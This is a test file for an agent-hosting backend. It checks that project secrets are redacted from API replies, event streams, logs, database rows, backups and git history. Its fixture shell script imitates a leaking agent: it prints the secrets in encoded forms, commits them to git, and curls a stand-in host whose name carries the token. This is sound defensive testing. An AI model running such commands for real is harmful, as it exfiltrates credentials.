@@ -1,0 +1,326 @@
+import { expect, test } from "bun:test";
+import { existsSync, readdirSync } from "node:fs";
+import { join } from "node:path";
+import { sql } from "drizzle-orm";
+import { readConfig } from "../../src/config/config.ts";
+import { type Orm, openDatabase, rowsOf } from "../../src/db/client.ts";
+import { createLogger } from "../../src/observability/logger.ts";
+import {
+  type Backend,
+  type Combination,
+  createDeployment,
+  runProgram,
+  startBackend,
+  startWorker,
+} from "../harness/backend.ts";
+import { makeRepository } from "../harness/repository.ts";
+import { describeWith } from "../harness/services.ts";
+import { until } from "../harness/until.ts";
+
+const LIMIT_MS = 300_000;
+const WAIT_MS = 120_000;
+
+/** A name of a branch may have it. */
+const TOKEN = "Zk7qX2mRv9tB4wN8sLd3gHj5";
+/** JSON, shells and URLs write it in ways of their own. */
+const SECOND = 'pä"55\\wo/rd 91Xy=zQ+Tr7';
+const SETUP = 'echo "setting up $TOKEN"; printf %s "$SECOND" | base64 >&2';
+
+/** Prints its secrets in each way that lines have, commits them and fails. */
+const PRINTER = `
+cat >/dev/null
+A=$(printf %s "$TOKEN" | cut -c1-12) B=$(printf %s "$TOKEN" | cut -c13-)
+J=$(printf %s "$SECOND" | sed 's/[\\\\"]/\\\\&/g')
+say() { printf '{"type":"assistant","message":{"role":"assistant","content":[{"type":"text","text":"%s"}]}}\\n' "$1"; }
+echo "plain $TOKEN $SECOND"
+printf %s "$TOKEN" | base64
+printf 'me:%s' "$SECOND" | base64
+printf 'two writes %s' "$A"; sleep 0.2; printf '%s\\n' "$B"
+printf 'two lines %s\\n%s\\n' "$A" "$B"
+say "in JSON $J"
+say "two lines in JSON $A\\\\n$B"
+printf '{"type":"user","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":"a result: %s"}]}}\\n' "$J"
+curl -s -m 5 -o /dev/null -x "$HTTPS_PROXY" "http://$TOKEN.example.invalid/" || true
+echo "$TOKEN" >"\${AGENT_STATE_DIR:-.}/kept.txt"
+git checkout -q -b "leak-$TOKEN"
+echo "$SECOND" > leaked.txt
+git add -A
+git -c user.name="$TOKEN" -c user.email=a@b commit -qm "Uses $TOKEN"
+echo "on stderr $TOKEN $SECOND" >&2
+`;
+
+const base64Cores = (value: string) =>
+  [0, 1, 2].map((shift) =>
+    Buffer.from(`${"x".repeat(shift)}${value}`)
+      .toString("base64")
+      .slice(4, -4),
+  );
+const ascii = (text: string) =>
+  text.replace(/[^ -~]/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, "0")}`);
+/** What must stand nowhere: the values as they are, as others write them, and halves of one. */
+const FORMS = [
+  ...[TOKEN, SECOND].flatMap((value) => {
+    const json = JSON.stringify(value).slice(1, -1);
+    return [value, json, JSON.stringify(json).slice(1, -1), ascii(json), ...base64Cores(value)];
+  }),
+  ...[TOKEN.slice(0, 12), TOKEN.slice(12), TOKEN.toLowerCase(), encodeURIComponent(SECOND)],
+];
+const inClear = (text: string): string[] => FORMS.filter((form) => text.includes(form));
+
+/** What is searched, by where it comes from. */
+type Found = Record<string, string[]>;
+
+test("the search finds each form", () => {
+  for (const form of FORMS) expect(inClear(`before ${form} after`)).not.toEqual([]);
+});
+
+/** Every reply of a GET operation, with each id that fits. */
+async function allReplies(backend: Backend, ids: Record<string, string[]>): Promise<Record<string, string>> {
+  const { body: api } = await backend.request("GET", "/openapi.json");
+  const replies: Record<string, string> = {};
+  // biome-ignore lint/suspicious/noExplicitAny: an OpenAPI document.
+  for (const [path, operations] of Object.entries<any>(api.paths)) {
+    const { get } = operations;
+    if (!get || get.responses["200"]?.content?.["text/event-stream"]) continue;
+    const of = ids[path.split("/")[1] ?? ""] ?? [crypto.randomUUID()];
+    for (const id of path.includes("{") ? of : [""]) {
+      const at = path.replace("{id}", id).replace(/\{\w+\}/g, "1");
+      const reply = await fetch(new URL(at, backend.url));
+      replies[`GET ${at} ${reply.status}`] = `${JSON.stringify([...reply.headers])}${await reply.text()}`;
+    }
+  }
+  return replies;
+}
+
+/** Reads a stream of events until the test ends. */
+function listen(backend: Backend, path: string) {
+  const ended = new AbortController();
+  const heard = { text: "" };
+  const reading = (async () => {
+    const { body } = await fetch(new URL(path, backend.url), { signal: ended.signal });
+    const decoder = new TextDecoder();
+    for await (const part of body ?? []) heard.text += decoder.decode(part, { stream: true });
+  })().catch(() => undefined);
+  return {
+    heard,
+    async stop() {
+      ended.abort();
+      await reading;
+    },
+  };
+}
+
+/** All rows of all tables, and what is packed in them. */
+async function tablesOf(orm: Orm): Promise<Record<string, string>> {
+  const tables = await rowsOf<{ name: string }>(
+    orm,
+    sql`select table_name as name from information_schema.tables
+      where table_schema = current_schema() and table_type = 'BASE TABLE'`,
+  );
+  const texts: Record<string, string> = {};
+  for (const { name } of tables) {
+    const rows = await rowsOf<{ row: string }>(
+      orm,
+      sql`select t::text as row from ${sql.identifier(name)} t`,
+    );
+    texts[`table ${name}`] = rows.map(({ row }) => row).join("\n");
+  }
+  const packed = await rowsOf<{ data: string }>(
+    orm,
+    sql`select encode(data, 'base64') as data from session_chunk`,
+  );
+  texts["what agents remember"] = packed
+    .map(({ data }) => Buffer.from(data, "base64"))
+    .map((data) => Buffer.from(Bun.zstdDecompressSync(data)).toString("latin1"))
+    .join("\n");
+  return texts;
+}
+
+/** Files below a folder with one of the forms in them, and objects of git. */
+async function filesOf(folder: string): Promise<Found> {
+  const found: Found = {};
+  const patterns = join(folder, "../patterns");
+  await Bun.write(patterns, `${FORMS.join("\n")}\n`);
+  const files = await Bun.$`LC_ALL=C grep -rlaF -f ${patterns} ${folder}`.nothrow().text();
+  for (const file of files.split("\n").filter(Boolean)) found[file] = ["(a form)"];
+  const heads = await Bun.$`find ${folder} -name objects -type d`.nothrow().text();
+  for (const objects of heads.split("\n").filter(Boolean)) {
+    const all = await Bun.$`git --git-dir=${join(objects, "..")} cat-file --batch-all-objects --batch`
+      .nothrow()
+      .text();
+    if (inClear(all).length > 0) found[objects] = inClear(all);
+  }
+  return found;
+}
+
+for (const combination of ["embedded", "postgres"] as const)
+  if (combination === "embedded") tests(combination);
+  else describeWith(combination, `secrets (${combination})`, () => tests(combination));
+
+function tests(combination: Combination) {
+  test(
+    `${combination}: a project's secret is in its agent's environment, and nowhere else in clear`,
+    async () => {
+      const source = await Bun.file(join(import.meta.dir, "secret-acp-program.ts")).text();
+      const program = new Bun.Transpiler({ loader: "ts", target: "bun" }).transformSync(source);
+      const AGENTS = JSON.stringify([
+        { name: "printer", title: "Printer", command: ["sh", "-c", PRINTER], protocol: "lines" },
+        { name: "failing", title: "Failing", command: ["sh", "-c", `${PRINTER}exit 3`], protocol: "lines" },
+        {
+          ...{ name: "clean", title: "Clean", protocol: "lines" },
+          command: ["sh", "-c", 'cat >/dev/null; echo "done with $TOKEN"; echo fine > fine.txt'],
+        },
+        { name: "talker", title: "Talker", command: [process.execPath, "-e", program], protocol: "acp" },
+      ]);
+      await using deployment = await createDeployment(combination);
+      const env = {
+        AGENTS,
+        AGENT: "demo",
+        EGRESS: "list",
+        EGRESS_ALLOW: "registry.example",
+        LOG_LEVEL: "debug",
+      };
+      const apart = combination !== "embedded";
+      await using backend = await startBackend(deployment, { env, ...(apart && { args: ["server"] }) });
+      await using worker = apart ? await startWorker(deployment, ["bg-tasks"], env) : undefined;
+      const logs = () => [...backend.process.lines, ...(worker?.lines ?? [])].join("\n");
+      const repository = await makeRepository();
+      const stranger = listen(backend, "/events");
+
+      const project = { repo: repository.path, setup_command: SETUP, secrets: { TOKEN, SECOND } };
+      const made = await backend.request("POST", "/projects", project);
+      expect(made).toMatchObject({ status: 200 });
+      const begin = async (agent: string, more: object = {}) => {
+        const one = await backend.submit(repository.path, "Show it.", { agent, ...more });
+        return { ...one, agent, stream: listen(backend, `/sessions/${one.sessionId}/events`) };
+      };
+      const runs = [
+        await begin("printer"),
+        await begin("failing"),
+        await begin("clean"),
+        await begin("talker", { mode: "ask" }),
+      ] as const;
+      const talker = runs[3];
+      const questions = async () =>
+        (await backend.request("GET", `/sessions/${talker.sessionId}/permissions`)).body.permissions;
+      const [question] = await until(async () => ((await questions()).length > 0 ? questions() : undefined), {
+        what: "a question",
+        timeoutMs: WAIT_MS,
+      });
+      const steered = await backend.request("POST", `/prompts/${talker.promptId}/steer`, {
+        text: "Tell me.",
+      });
+      expect(steered).toMatchObject({ status: 200 });
+      const answered = await backend.request("POST", `/permissions/${question.id}/answer`, {
+        decision: "allow",
+      });
+      expect(answered).toMatchObject({ status: 200 });
+      for (const { sessionId } of runs)
+        await backend.waitForStatus(sessionId, "NeedsReviewIpReturned", WAIT_MS);
+
+      // It was all printed: what is missed below was replaced, not left out.
+      const texts: Record<string, string> = {};
+      for (const { agent, promptId } of runs)
+        texts[agent] = JSON.stringify([
+          await backend.messages(promptId),
+          (await backend.request("GET", `/prompts/${promptId}`)).body,
+        ]);
+      const marks = (agent: string, ...all: string[]) => {
+        for (const one of all) expect(texts[agent]).toContain(one);
+      };
+      for (const agent of ["printer", "failing"])
+        marks(
+          agent,
+          "setting up [secret TOKEN]",
+          "plain [secret TOKEN] [secret SECOND]",
+          "two writes [secret TOKEN]",
+          "two lines [secret TOKEN]\\n[secret TOKEN]",
+          "in JSON [secret SECOND]",
+          "two lines in JSON [secret TOKEN]\\n[secret TOKEN]",
+          "a result: [secret SECOND]",
+          "[secret TOKEN].example.invalid",
+          "TOKEN in a commit message",
+          "SECOND in leaked.txt",
+        );
+      marks("failing", "on stderr [secret TOKEN] [secret SECOND]");
+      marks("clean", "done with [secret TOKEN]", "was pushed");
+      marks(
+        "talker",
+        "one chunk [secret TOKEN]",
+        "two messages [secret TOKEN]",
+        "use [secret TOKEN]",
+        "result [secret TOKEN] [secret SECOND]",
+        "you said so: [secret TOKEN]",
+        "failed with [secret TOKEN] and [secret SECOND]",
+      );
+
+      const found: Found = {};
+      const search = (some: Record<string, string>) => {
+        for (const [where, text] of Object.entries(some)) {
+          const forms = inClear(text);
+          if (forms.length > 0) found[where] = forms;
+        }
+      };
+      const prompts = runs.map(({ promptId }) => promptId);
+      const messages = (await Promise.all(prompts.map((id) => backend.messages(id)))).flat();
+      const replies = await allReplies(backend, {
+        sessions: runs.map(({ sessionId }) => sessionId),
+        prompts,
+        projects: [made.body.id],
+        permissions: [question.id],
+        messages: messages.map(({ id }) => id),
+      });
+      expect(Object.keys(replies).filter((one) => one.endsWith(" 200")).length).toBeGreaterThan(30);
+      search(replies);
+      search({ metrics: await (await fetch(new URL("/metrics", backend.url))).text() });
+      for (const { agent, stream } of runs) {
+        await until(() => stream.heard.text.includes("[secret TOKEN]"), { what: `events of ${agent}` });
+        await stream.stop();
+        search({ [`events of ${agent}`]: stream.heard.text });
+      }
+      await stranger.stop();
+      search({ "events of all": stranger.heard.text });
+
+      const cwd = deployment.folder;
+      const programEnv = { ...deployment.env, ...env };
+      const shown = async (...args: string[]) => {
+        const { stdout, stderr } = await runProgram(args, { cwd, env: programEnv });
+        search({ [args.join(" ")]: stdout + stderr });
+        return stdout;
+      };
+      await shown("doctor");
+      expect(await shown("print-openapi")).toContain("handlers_projects_create");
+
+      const copy = join(deployment.folder, "copy");
+      if (combination === "embedded") {
+        const file = join(deployment.folder, "backup.tar.gz");
+        await shown("backup", file);
+        await Bun.$`mkdir ${copy}.files && tar --extract --gzip --file=${file} --directory=${copy}.files`;
+        Object.assign(found, await filesOf(`${copy}.files`));
+        const restore = await runProgram(["restore", file], { cwd, env: { ...programEnv, DATA_DIR: copy } });
+        expect(restore.code, restore.stderr).toBe(0);
+      } else {
+        const url = String(deployment.env["DATABASE_URL"]);
+        search({ "the dump": await Bun.$`pg_dump ${url}`.text() });
+      }
+      backend.process.kill("SIGTERM");
+      worker?.kill("SIGTERM");
+      await Promise.all([backend.process.exit, worker?.exit]);
+      expect(await shown("doctor", "--json")).toContain("one key opens all of them");
+      search({ logs: logs() });
+      expect(logs()).toContain(runs[0].promptId);
+      // Journals, checkouts and what the database writes beside its tables: nothing is left but the key.
+      Object.assign(found, await filesOf(deployment.dataDir));
+      expect(readdirSync(join(deployment.dataDir, "sandboxes"))).toEqual([]);
+      if (existsSync(copy)) Object.assign(found, await filesOf(copy));
+      const config = readConfig({ ...programEnv, ...(existsSync(copy) && { DATA_DIR: copy }) });
+      const database = await openDatabase({ config, logger: createLogger({ level: "silent" }) });
+      search(await tablesOf(database.orm));
+      await database.close();
+      expect(await repository.branches()).toHaveLength(2);
+      expect(found).toEqual({});
+      await repository.remove();
+    },
+    LIMIT_MS,
+  );
+}
